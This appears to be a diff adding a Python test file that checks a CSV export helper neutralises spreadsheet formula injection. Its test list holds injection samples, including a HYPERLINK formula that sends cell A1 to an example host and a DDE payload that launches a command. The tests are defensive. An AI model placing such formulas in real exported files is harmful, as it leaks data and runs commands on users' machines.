@@ -1,0 +1,44 @@
+"""Expected values: OWASP's list of beginnings, and what Python's csv module reads back."""
+
+import csv
+import io
+import json
+
+import pytest
+
+from bert_tf.report.page import CSV_SCRIPT
+from bert_tf.spreadsheets import defused, write_csv
+
+COMPUTED = [
+    '=HYPERLINK("http://example.org/?"&A1)', "=1+1", "@SUM(1)", "+1+cmd|' /C calc'!A0", "-2+3", "\t=1", "\r=1", "\n=1",
+    "＝1+1", "-", "-1_000", "+-1", "-inf", "-١٢", "-1 ",
+]  # fmt: skip
+HARMLESS = ["", "text", "a=b", " =1", "'=1", "-1", "+1.5", "-.5", "-1e-05", "+3.", "1-2", "é", '"=1"', "a\nb", "0x1"]
+
+
+@pytest.mark.parametrize("text", COMPUTED)
+def test_what_would_be_computed_is_a_text(text):
+    assert defused(text) == f"'{text}"
+
+
+@pytest.mark.parametrize("text", HARMLESS)
+def test_what_would_not_stays(text):
+    assert defused(text) == text
+
+
+@pytest.mark.parametrize("delimiter", [",", "\t"])
+def test_cells_come_back(delimiter):
+    rows = [["text", "number", "nothing"], *([text, -0.5, None] for text in (*COMPUTED, *HARMLESS))]
+    file = io.StringIO(newline="")
+    write_csv(file, rows, delimiter=delimiter)
+    found = list(csv.reader(io.StringIO(file.getvalue(), newline=""), delimiter=delimiter))
+    assert found[1:] == [[f"'{text}" if text in COMPUTED else text, "-0.5", ""] for text, *_ in rows[1:]]
+
+
+def test_the_pages_write_the_same(page):
+    rows = [[text, -0.5, None] for text in (*COMPUTED, *HARMLESS)]
+    page.set_content("<p>")
+    page.evaluate(CSV_SCRIPT.read_text().replace("export const", "var"))
+    file = io.StringIO(newline="")
+    write_csv(file, rows)
+    assert page.evaluate(f"csv({json.dumps(rows)})") == file.getvalue()
